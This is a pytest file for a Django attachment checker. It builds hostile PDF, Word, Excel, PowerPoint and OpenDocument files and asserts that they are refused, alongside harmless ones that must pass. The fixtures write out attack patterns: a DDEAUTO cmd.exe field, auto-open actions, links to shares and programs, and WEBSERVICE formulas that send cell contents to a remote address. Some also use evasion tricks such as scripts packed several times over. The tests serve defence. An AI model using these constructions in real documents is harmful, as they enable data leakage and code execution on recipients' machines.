"""Documents that reach out: they fetch something as they are opened, or a link in them starts what it should not."""

import os
import time
import zlib

import pytest
from django.utils import translation

from articles import attachments
from articles.attachments.door import checked_kind

from .documents import make_odf, make_ooxml, make_pdf, make_zip, ooxml_parts, relation, stream
from .test_hostile_attachments import ACTS, CALLS_OUT, EMBEDDED, JS, NO_DOCUMENT, ODD, TOO_MUCH, field, override

STARTS = "starts a program"
FAR = "https://example.org/a"
URI = b"<< /S /URI /URI (https://example.org) >>"
GO_TO = b"<< /S /GoTo /D [3 0 R /Fit] %s>>"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def packed(data, times):
    for _time in range(times):
        data = zlib.compress(data)
    return data


def objects(data, times=1, about=b""):
    """A stream of objects that is packed so many times over."""
    about += b"/Type /ObjStm /N 1 /First 4 /Filter [%s] " % (b"/FlateDecode " * times)
    return stream(packed(data, times), about, packed=False)


def opened_with(action, *more):
    """A PDF that begins with object 5."""
    return make_pdf("", action, *more, catalog=b"/OpenAction 5 0 R")


def slide(words):
    return make_ooxml("pptx", {"ppt/slides/slide1.xml": f'<p:sld xmlns:p="p" xmlns:a="a">{words}</p:sld>'})


def sheet(formula, tag="f"):
    words = f'<worksheet xmlns="{SHEET}"><{tag}>{formula}</{tag}></worksheet>'
    return make_ooxml("xlsx", {"xl/worksheets/sheet1.xml": words})


def moved(body):
    """A document whose main part lies in another folder, behind the list of types."""
    parts = {
        name: part.replace("word/document.xml", "other/a.xml") if isinstance(part, str) else part
        for name, part in ooxml_parts(body=body).items()
    }
    parts["other/a.xml"] = parts.pop("word/document.xml")
    parts["other/_rels/a.xml.rels"] = parts.pop("word/_rels/document.xml.rels")
    return make_zip(parts)


def types_last(parts):
    return make_zip({name: parts[name] for name in sorted(parts, reverse=True)})


LONG = JS[:3] + b"%" + os.urandom(700_000).hex().encode() + b"\n" + JS[3:]
CONNECTION = (
    f'<connections xmlns="{SHEET}"><connection id="1" refreshOnLoad="1"><webPr url="{FAR}"/></connection></connections>'
)
SEPARATE = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
MAIL = 'INCLUDEPICTURE "cid:image001.png@01DA" \\* MERGEFORMATINET'

HOSTILE = {
    # PDF: packed so that nobody looks, and what begins by itself.
    **{f"a script packed {times} times": ("a.pdf", make_pdf("", objects(JS, times)), ACTS) for times in (1, 2, 3)},
    **{f"a script packed {times} times": ("a.pdf", make_pdf("", objects(JS, times)), ODD) for times in (4, 5, 9)},
    "a script far behind, packed twice": ("a.pdf", make_pdf("", objects(LONG, 2)), ACTS),
    "a script whose letters come one by one": (
        "a.pdf",
        lambda: make_pdf("", b"<< /Type /ObjStm >>\nstream\n" + in_crumbs(b"7 0 " + JS) + b"\nendstream"),
        ACTS,
    ),
    "more objects than anybody packs together": ("a.pdf", lambda: make_pdf("", objects(bytes(9_000_000))), TOO_MUCH),
    "a pdf that opens an address": ("a.pdf", make_pdf(catalog=b"/OpenAction " + URI), ACTS),
    "a pdf that opens an address by an object": ("a.pdf", opened_with(URI), ACTS),
    "a pdf that opens an address by packed objects": (
        "a.pdf",
        opened_with(b"null", objects(b"5 0 " + URI)),
        ACTS,
    ),
    "a pdf that opens an address by objects that only look packed": (
        "a.pdf",
        make_pdf(
            "", stream(b"80 0 " + URI, b"/Type /ObjStm /N 1 /First 5 ", packed=False), catalog=b"/OpenAction 80 0 R"
        ),
        ACTS,
    ),
    "a packed catalog that opens an address": (
        "a.pdf",
        make_pdf("", objects(b"1 0 << /Type /Catalog /OpenAction 9 0 R >>"), objects(b"9 0 " + URI)),
        ACTS,
    ),
    "an address behind a page": ("a.pdf", opened_with(GO_TO % b"/Next 6 0 R ", URI), ACTS),
    "an address behind two pages": (
        "a.pdf",
        opened_with(GO_TO % b"/Next [6 0 R] ", GO_TO % b"/Next % a\n 7 0 R ", URI),
        ACTS,
    ),
    "a page that opens an address": ("a.pdf", make_pdf("", b"<< /Type /Page /AA << /O 6 0 R >> >>", URI), ACTS),
    "another file on a share": ("a.pdf", opened_with(rb"<< /S /GoToR /F (\\\\10.0.0.1\\a) >>"), ACTS),
    "a beginning behind many comments": (
        "a.pdf",
        make_pdf("", URI, catalog=b"/OpenAction " + b"%\n" * 50 + b"5 0 R"),
        ACTS,
    ),
    # Word.
    "a field in a main part elsewhere": ("a.docx", moved(field(r"DDEAUTO c:\\cmd.exe")), CALLS_OUT),
    "a main part that is named, but not there": (
        "a.docx",
        make_zip({name: part for name, part in ooxml_parts().items() if name != "word/document.xml"}),
        "cut short",
    ),
    "a main part that is not read as one": (
        "a.docx",
        make_ooxml(types=override("word/a.bin", "application/vnd.ms-word.document+xml"), more={"word/a.bin": "<a/>"}),
        EMBEDDED,
    ),
    "two documents in one": (
        "a.docx",
        make_ooxml(
            types=override(
                "xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
            )
        ),
        NO_DOCUMENT,
    ),
    **{
        f"a field: {instruction}": ("a.docx", make_ooxml(body=field(instruction)), CALLS_OUT)
        for instruction in (
            f'INCLUDEPICTURE "{FAR}.png" \\d',
            f"includepicture {FAR}.png",
            f"INCLUDEPICTURE “{FAR}.png”",
            f'INCLUDEPICTURE "a.png" {FAR}',
            r'INCLUDETEXT "\\\\10.0.0.1\\a\\b.docx"',
            r'INCLUDETEXT "\\10.0.0.1\a\b.docx"',
            'IMPORT "file://10.0.0.1/a.png"',
            'RD "ftp://example.org/a.docx"',
            r'DATABASE \d "C:\\a.mdb"',
            r'LINK Excel.Sheet.12 "C:\\a.xlsx"',
        )
    },
    "such a field that is never closed": (
        "a.docx",
        make_ooxml(body=field(f'INCLUDEPICTURE "{FAR}"').replace('"separate"', '"x"').replace('"end"', '"x"')),
        CALLS_OUT,
    ),
    "an address that a field puts together": (
        "a.docx",
        make_ooxml(body=field("INCLUDEPICTURE ").replace(SEPARATE, field("QUOTE 104 116") + SEPARATE)),
        CALLS_OUT,
    ),
    "a drawing of the old kind": (
        "a.docx",
        make_ooxml(body=f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{FAR}.png"/>'),
        CALLS_OUT,
    ),
    # Links that start something, in all three.
    **{
        f"a link to {target}": ("a.pptx", make_ooxml("pptx", relations=relation("hyperlink", target)), STARTS)
        for target in (
            "file:///C:/Windows/System32/cmd.exe",
            "file:///C:/Users/Lan/a.docx",
            "file://10.0.0.1/a/b",
            "//10.0.0.1/a/b.docx",
            r"\\10.0.0.1\a\b.docx",
            "C:\\Windows\\a.docx",
            "a/b.EXE",
            "b.e%78e",
            "b.lnk ",
        )
    },
    "a link to a program in a docx": ("a.docx", make_ooxml(relations=relation("hyperlink", "a.bat")), STARTS),
    "a link to a share in an odt": ("a.odt", make_odf(body='<text:a xlink:href="//10.0.0.1/a"/>'), STARTS),
    **{
        f"a slide that acts: {tag} {action}": (
            "a.pptx",
            slide(f'<a:{tag} action="{action}"/>'),
            STARTS,
        )
        for tag, action in (
            ("hlinkMouseOver", "ppaction://program"),
            ("hlinkClick", "ppaction://program"),
            ("hlinkClick", "PPACTION://macro?name=a"),
        )
    },
    # Excel and its sisters.
    "a connection that is refreshed": ("a.xlsx", make_ooxml("xlsx", {"xl/connections.xml": CONNECTION}), CALLS_OUT),
    **{
        f"a formula: {formula}": ("a.xlsx", sheet(formula), CALLS_OUT)
        for formula in (
            f'WEBSERVICE("{FAR}?"&amp;A1)',
            f'IF(1, _xlfn.webservice ("{FAR}"))',
            f'&#87;EBSERVICE("{FAR}")',
            f'_xlfn.IMAGE("{FAR}")',
            'RTD("a.b",,"c")',
            f'"x"&amp;WEBSERVICE("{FAR}")&amp;"y"',
        )
    },
    "a name that calls out": ("a.xlsx", sheet(f'WEBSERVICE("{FAR}")', "definedName"), CALLS_OUT),
    "a condition that calls out": ("a.xlsx", sheet(f'WEBSERVICE("{FAR}")', "formula1"), CALLS_OUT),
    "a formula in an ods": (
        "a.ods",
        make_odf("ods", body=f"<text:a table:formula='of:=WEBSERVICE(\"{FAR}\")' xmlns:table='t'/>"),
        CALLS_OUT,
    ),
    # OpenDocument.
    **{
        f"a picture from {address}": ("a.odt", make_odf(body=f'<draw:image xlink:href="{address}"/>'), CALLS_OUT)
        for address in (
            "file://10.0.0.1/a.png",
            "file:///C:/a.png",
            "//10.0.0.1/a.png",
            r"\\10.0.0.1\a.png",
            r"/\10.0.0.1\a.png",
            "smb://10.0.0.1/a.png",
            " HTTP://example.org/a.png",
        )
    },
    "a film from elsewhere": ("a.odp", make_odf("odp", body=f'<draw:plugin xlink:href="{FAR}"/>'), CALLS_OUT),
}


def in_crumbs(data):
    """Packed so that a program that unpacks 64 KB after 64 KB gets one letter at a time."""
    machine, nothing = zlib.compressobj(0), b"\x00\x00\x00\xff\xff" * 14_000
    out = machine.compress(b"") + machine.flush(zlib.Z_SYNC_FLUSH)
    for at in range(len(data)):
        out += machine.compress(data[at : at + 1]) + machine.flush(zlib.Z_SYNC_FLUSH) + nothing
    return out + machine.flush()


@pytest.mark.parametrize(("name", "data", "why"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_document_that_reaches_out_is_refused_with_its_reason(name, data, why):
    data = data() if callable(data) else data

    with translation.override("en"), pytest.raises(attachments.UnusableAttachment) as caught:
        checked_kind(data, name)

    assert str(caught.value).count(why) == 1


HARMLESS = {
    "links of every day": (
        "a.docx",
        make_ooxml(
            relations="".join(
                relation("hyperlink", target).replace("rId9", f"rId{number}")
                for number, target in enumerate(
                    (
                        FAR,
                        "http://thanhha.example.com",
                        "mailto:a@example.org",
                        "tel:0912",
                        "phu-luc.docx",
                        "#muc",
                        FAR + ".exe",
                    )
                )
            )
        ),
    ),
    "a link in an odt": ("a.odt", make_odf(body=f'<text:a xlink:href="{FAR}">a</text:a>')),
    "a picture that came by mail": ("a.docx", make_ooxml(body=field(MAIL))),
    "a picture on the writer's machine": ("a.docx", make_ooxml(body=field(r'INCLUDEPICTURE "C:\\Anh\\a.png" \d'))),
    "a field within a result": (
        "a.docx",
        make_ooxml(body=field(r'INCLUDEPICTURE "C:\\a.png"').replace(SEPARATE, SEPARATE + field("PAGE"))),
    ),
    "a main part elsewhere": ("a.docx", moved("<w:p/>")),
    "the list of types at the end": ("a.docx", types_last(ooxml_parts())),
    "a drawing": ("a.docx", make_ooxml(types='<Default Extension="svg" ContentType="image/svg+xml"/>')),
    "slides that lead on": ("a.pptx", slide('<a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/>')),
    "a sum": ("a.xlsx", sheet("SUM(A1:A9)+RECALL(1)")),
    "words in a formula": ("a.xlsx", sheet('"Call (0912) or WEBSERVICE("&amp;A1')),
    "a pdf that opens at a page by an object": ("a.pdf", opened_with(GO_TO % b"", URI)),
    "a pdf with a base for its addresses": (
        "a.pdf",
        make_pdf(catalog=b"/OpenAction [3 0 R /Fit] /URI << /Base (a) >>"),
    ),
    "a link on a page": ("a.pdf", make_pdf("", b"<< /Subtype /Link /A " + URI + b" >>", catalog=b"/OpenAction 3 0 R")),
    "packed links beside a packed beginning": (
        "a.pdf",
        make_pdf(
            "",
            stream(
                b"1 0 8 44 << /Type /Catalog /OpenAction [3 0 R /Fit]  >>" + URI,
                b"/Type /ObjStm /N 2 /First 9 ",
            ),
        ),
    ),
    "a picture within the archive": ("a.odt", make_odf(body='<draw:image xlink:href="Pictures/a.png"/>')),
}


@pytest.mark.parametrize(("name", "data"), HARMLESS.values(), ids=HARMLESS.keys())
def test_what_reaches_out_only_when_asked_is_taken(name, data):
    assert checked_kind(data, name) == name.rpartition(".")[2]


@pytest.mark.parametrize(
    "crumb", [b"1 ", b"%1\n", b"1%", b"/O ", b"/OpenAction%", b"/AA 1 1 R", b"1 0 obj", b"<<", b" "]
)
def test_no_pattern_makes_the_search_for_actions_slow(crumb):
    data = make_pdf("", crumb * (4_000_000 // len(crumb)), objects(crumb * (4_000_000 // len(crumb))))
    began = time.monotonic()

    try:
        checked_kind(data, "a.pdf")
    except attachments.UnusableAttachment:
        pass

    assert time.monotonic() - began < 10
